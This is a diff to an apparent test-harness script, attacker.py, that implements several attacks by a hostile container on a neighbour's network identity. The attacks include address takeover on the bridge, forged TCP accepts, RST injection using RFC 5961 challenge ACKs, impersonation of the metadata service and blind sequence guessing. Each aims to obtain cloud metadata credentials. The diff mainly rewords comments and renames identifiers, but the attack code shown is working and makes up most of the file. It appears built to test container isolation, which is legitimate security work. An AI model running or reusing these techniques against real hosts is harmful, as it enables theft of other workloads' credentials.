@@ -1,7 +1,7 @@
-"""What a hostile container does to its neighbours' identity, with CAP_NET_RAW and no more (`address_added` needs CAP_NET_ADMIN).
+"""Attacks of a hostile container on its neighbours' identity. They need CAP_NET_RAW only (`address_added` needs CAP_NET_ADMIN).
 
-Usage: attacker.py ORDER_JSON. Prints what it got, as JSON. Stops by itself after `seconds`, or with the first credentials.
-The order: {"attack": a function below, "seconds", "victim", "host": the host's address on this bridge, ...what the attack wants}.
+Usage: attacker.py ORDER_JSON. Prints its findings as JSON. Stops after `seconds`, or with the first credentials.
+The order: {"attack": a function below, "seconds", "victim", "host": the host's address on this bridge, ...parameters}.
 """
 import ipaddress
 import json
@@ -16,7 +16,7 @@ from loot import Loot, whole_answer
 from raw_tcp import Connection
 from wire import Wire
 
-# Nobody's: the attacker's own kernel would meddle with answers that come to its own MAC.
+# A MAC of no interface: the attacker's own kernel would react to answers that arrive at its own MAC.
 GHOST = "02:66:00:00:00:66"
 METADATA = ("169.254.169.254", 80)
 METADATA6 = ("fd00:ec2::254", 80)
@@ -40,7 +40,7 @@ class Attack:
         return self.loot.done() or time.monotonic() >= self.end
 
     def be_victim(self):
-        """The host sends to us what is meant for the victim."""
+        """Makes the host send the victim's packets to us."""
         self.wire.claim(self.victim, self.mac, self.host, self.host_mac)
         self.wire.pump(0.05)
 
@@ -48,7 +48,7 @@ class Attack:
         self.wire.send(target_mac, self.mac, IPV6 if ":" in self.victim else IPV4, packet)
 
     def connect(self, source_port, target, seconds=0.6):
-        """From the victim's address to the host."""
+        """Connects to the host from the victim's address."""
         return self.between((self.victim, source_port), target, self.host_mac, seconds)
 
     def between(self, source, target, target_mac, seconds=0.6):
@@ -58,9 +58,9 @@ class Attack:
 
     def exchange_on(self, connection):
         def exchange(data):
-            begun = len(connection.received)
-            answer = lambda: whole_answer(connection.received[begun:])  # noqa: E731
-            connection.say(data, 3.0, lambda: answer() is not None)
+            start = len(connection.received)
+            answer = lambda: whole_answer(connection.received[start:])  # noqa: E731
+            connection.exchange(data, 3.0, lambda: answer() is not None)
             return answer()
 
         return exchange
@@ -82,15 +82,15 @@ class Attack:
     # The attacks.
 
     def theft(self):
-        """Takes the victim's address on its own bridge, and asks."""
+        """Takes over the victim's address on its own bridge, and requests credentials."""
         self.be_victim()
         while not self.over():
             self.round(random.randrange(20000, 60000))
 
     def forged_accept(self):
-        """Connects to a port on which the victim listens, as the other end that the proof looks for, and asks as victim:port."""
+        """Connects to a listening port of the victim from the remote end that the proof expects, and sends requests as victim:port."""
         port, forged = self.order["victimPort"], tuple(self.order["as"])
-        # The victim answers to its gateway, or to that very address where it is on its network.
+        # The victim answers by way of its gateway, or directly if the address is on its network.
         for address in {self.host, forged[0]}:
             self.wire.claim(address, self.mac, self.victim, self.victim_mac)
         self.be_victim()
@@ -100,12 +100,12 @@ class Attack:
                 self.round(port)
             else:
                 self.loot.rounds += 1
-                self.loot.note("the victim does not accept: %s" % accepted.state)
+                self.loot.note("the victim did not accept: %s" % accepted.state)
             accepted.abort()
             self.wire.pump(0.02)
 
     def port_reuse(self):
-        """Asks from ports on which the victim may have a connection to the metadata service."""
+        """Sends requests from ports on which the victim may have a connection to the metadata service."""
         low, high = self.order["ports"]
         self.be_victim()
         if self.order.get("endKept", False):
@@ -117,7 +117,7 @@ class Attack:
                 self.round(port)
 
     def challenge(self, port, tries=5):
-        """Where the victim's kept connection stands: its server answers a second SYN with just that (RFC 5961). None if there is none."""
+        """A probe with the sequence numbers of the victim's kept connection: the host answers a second SYN with them (RFC 5961). Or None."""
         for _ in range(tries):
             probe = self.connect(port, self.service)
             if probe.challenge is not None:
@@ -125,26 +125,26 @@ class Attack:
             probe.abort()
             self.wire.pump(0.6 if tries > 1 else 0)
         if tries > 1:
-            self.loot.note("the host has no connection of port %d" % port)
+            self.loot.note("the host has no connection from port %d" % port)
         return None
 
     def end_other(self, probe):
-        """Ends the connection that the host has where `probe` would have its own."""
+        """Resets the connection of the host that has the addresses and ports of `probe`."""
         packet = tcp(*probe.source, *probe.target, probe.challenge[1], 0, RST)
         self.send(self.host_mac, packet)
         probe.abort()
 
     def end_kept(self, port):
-        """Ends the host's side of the kept connection; the victim, which hears nothing of it, keeps its own established."""
+        """Resets the host's side of the kept connection. The victim is not told and keeps its side established."""
         probe = self.challenge(port)
         if probe is not None:
             self.end_other(probe)
-            self.loot.note("the host's side of the kept connection is ended")
-            # The translation of a connection that was reset is remembered for ten seconds, and its ports are taken for so long.
+            self.loot.note("the host's side of the kept connection was reset")
+            # conntrack remembers a reset connection for ten seconds, and its ports are in use until then.
             self.wire.pump(self.order.get("settle", 0))
 
     def kept_injected(self):
-        """Speaks on the victim's kept connection, which is proven already."""
+        """Injects requests into the victim's kept connection, which has passed the proof."""
         low, high = self.order["ports"]
         self.be_victim()
         while not self.over():
@@ -159,7 +159,7 @@ class Attack:
                     return
 
     def impersonation(self):
-        """Plays the metadata service to the victim, so that the victim itself opens the connection that the proof looks for."""
+        """Plays the metadata service to the victim, so that the victim itself opens the connection that the proof expects."""
         seen = []
 
         def note(kind, payload, source_mac):
@@ -172,35 +172,35 @@ class Attack:
         self.wire.sniffers.append(note)
         while not self.over():
             self.wire.pump(0.2, lambda: bool(seen))
-            for asked in [segment for segment in seen if segment.flags & (SYN | ACK) == SYN]:
-                port, ours = asked.source_port, random.getrandbits(31)
-                answer = tcp(*self.service, self.victim, port, ours, asked.sequence + 1, SYN | ACK)
+            for opening in [segment for segment in seen if segment.flags & (SYN | ACK) == SYN]:
+                port, ours = opening.source_port, random.getrandbits(31)
+                answer = tcp(*self.service, self.victim, port, ours, opening.sequence + 1, SYN | ACK)
                 self.send(self.victim_mac, answer)
-                agreed = lambda: any(one.flags & ACK and one.acknowledged == ours + 1 for one in seen)  # noqa: E731
-                self.wire.pump(0.3, agreed)
-                if agreed() and not self.over():
+                established = lambda: any(one.flags & ACK and one.acknowledged == ours + 1 for one in seen)  # noqa: E731
+                self.wire.pump(0.3, established)
+                if established() and not self.over():
                     connection = self.round(port)
                     if connection.challenge is not None:
-                        # The victim's connection before this one had the same port, and the host has not heard of its end.
+                        # The victim's previous connection had the same port, and the host does not know that it ended.
                         self.end_other(connection)
                         self.round(port)
             seen.clear()
 
     def across(self):
-        """Sends as the victim by way of another bridge that it is also on; answers come to the victim's bridge, where it takes them."""
+        """Sends as the victim through another bridge that it is attached to, and catches the answers on the victim's bridge."""
         other = Wire(self.order["otherInterface"])
         other_mac = other.resolve(self.order["otherHost"])
         self.be_victim()
         while not self.over():
             self.loot.rounds += 1
             source = (self.victim, random.randrange(20000, 60000))
-            connection = Connection(other, source, self.ask_at, other.mac, other_mac, hears=self.wire)
+            connection = Connection(other, source, self.ask_at, other.mac, other_mac, receiver=self.wire)
             connection.open(0.6)
             self.ask(connection)
             connection.abort()
 
     def across_blind(self):
-        """From a bridge that the victim is not on: answers go to the victim, so it guesses; and keeps what it can hear."""
+        """Sends from a bridge without the victim. The answers go to the victim, so it guesses sequence numbers, and keeps what it hears."""
         heard = []
         self.wire.sniffers.append(lambda kind, payload, source_mac: heard.append(payload))
         while not self.over():
@@ -208,14 +208,14 @@ class Attack:
             guess = Connection(self.wire, (self.victim, random.randrange(20000, 60000)), self.ask_at, self.mac, self.host_mac)
             guess.challenge = (random.getrandbits(32), guess.sequence)
             guess.adopt()
-            self.loot.ask(self.api, lambda data: guess.say(data, 0.1, lambda: guess.received != b""))
+            self.loot.ask(self.api, lambda data: guess.exchange(data, 0.1, lambda: guess.received != b""))
             guess.abort()
         self.loot.text.append(b"".join(heard).decode("latin1"))
 
     def address_added(self):
-        """Gives itself the victim's address, and asks with ordinary sockets."""
+        """Adds the victim's address to its own interface, and sends requests with ordinary sockets."""
         length, options = ("/64", ["nodad"]) if ":" in self.victim else ("/16", [])
-        # The image has an `ip` of its own on the path, which knows less.
+        # The image's own `ip` (busybox), which comes first on the path, lacks options.
         change = lambda what, *more: subprocess.run(  # noqa: E731
             ["/usr/bin/ip", "address", what, self.victim + length, "dev", "eth0", *more], check=True
         )
@@ -246,7 +246,7 @@ class Attack:
 
                 self.loot.ask(self.api, exchange)
         except OSError as error:
-            self.loot.note("asking from %s: %s" % (self.victim, error))
+            self.loot.note("request from %s: %s" % (self.victim, error))
 
 
 ATTACKS = ("theft", "forged_accept", "port_reuse", "kept_injected", "impersonation", "across", "across_blind", "address_added")
@@ -261,7 +261,7 @@ def main(order):
     if order["attack"] == "capabilities":
         return {"capabilities": capabilities()}
     if order["attack"] not in ATTACKS:
-        raise SystemExit("attacker.py: there is no attack %r" % order["attack"])
+        raise SystemExit("attacker.py: unknown attack %r" % order["attack"])
     for key in ("victim", "host"):
         order[key] = str(ipaddress.ip_address(order[key]))
     attack = Attack(order)
